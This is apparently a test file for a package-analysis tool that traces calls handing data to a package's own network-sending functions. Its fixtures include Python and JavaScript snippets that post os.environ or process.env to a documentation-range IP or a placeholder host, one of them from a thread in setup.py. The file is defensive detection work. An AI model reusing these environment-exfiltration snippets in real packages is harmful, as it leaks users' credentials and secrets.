import { describe, expect, it } from 'vitest';
import { modelOf } from '../support/engine.js';

const relays = async (files: Record<string, string>) =>
  (await modelOf(files)).events.events.filter((e) => e.capability === 'network-relay').map((e) => `${e.file}:${e.line} ${e.callee} via ${e.via}`);

describe('calls that hand data to the package’s own sending functions', () => {
  it('follows helpers that call helpers, across modules, and names the one that sends', async () => {
    const got = await relays({
      'pkg/__init__.py': 'import os\nfrom .report import submit\nsubmit(dict(os.environ))\nsubmit()\n',
      'pkg/report.py': 'from .net import post\n\ndef submit(data=None):\n    post(data)\n',
      'pkg/net.py': 'import requests\n\ndef post(d):\n    requests.post("https://203.0.113.9", json=d)\n',
    });
    // submit() without arguments hands nothing over.
    expect(got).toEqual(['pkg/__init__.py:3 .report.submit via submit in pkg/report.py', 'pkg/report.py:4 .net.post via post in pkg/net.py']);
  });

  it('follows a sender handed to a thread or a timer with the data, and leaves the function itself out of what is sent', async () => {
    const py = await modelOf({
      'setup.py': 'import os, threading, requests\n\ndef send(d):\n    requests.post("https://203.0.113.9", json=d)\n\nthreading.Thread(target=send, args=(dict(os.environ),)).start()\nthreading.Thread(target=print, args=(1,)).start()\n',
    });
    const relay = py.events.events.filter((e) => e.capability === 'network-relay');
    expect(relay.map((e) => `${e.line} ${e.callee} via ${e.via}`)).toEqual(['6 threading.Thread via send']);
    expect(relay[0]?.refs).not.toContain('local.send');
    expect(await relays({ 'package.json': '{"name":"x","version":"1.0.0"}', 'index.js': "const { send } = require('./net');\nsetTimeout(send, 0, process.env);\n", 'net.js': "exports.send = (b) => fetch('https://h', { method: 'POST', body: JSON.stringify(b) });\n" })).toEqual([
      'index.js:2 global.setTimeout via exports.send in net.js',
    ]);
  });

  it('resolves a required module called as a function and members of its exports', async () => {
    const got = await relays({
      'package.json': '{"name":"x","version":"1.0.0"}',
      'index.js': "const send = require('./lib/send');\nconst api = require('./lib/api.js');\nsend(process.env);\napi.upload({ a: 1 });\napi.local(1);\n",
      'lib/send.js': "const https = require('https');\nmodule.exports = function (b) { https.request({ hostname: 'h' }).end(b); };\n",
      'lib/api.js': "exports.upload = (b) => fetch('https://h/x', { method: 'POST', body: JSON.stringify(b) });\nexports.local = (n) => n + 1;\n",
    });
    expect(got).toEqual(['index.js:3 ./lib/send via module.exports in lib/send.js', 'index.js:4 ./lib/api.js.upload via exports.upload in lib/api.js']);
  });
});
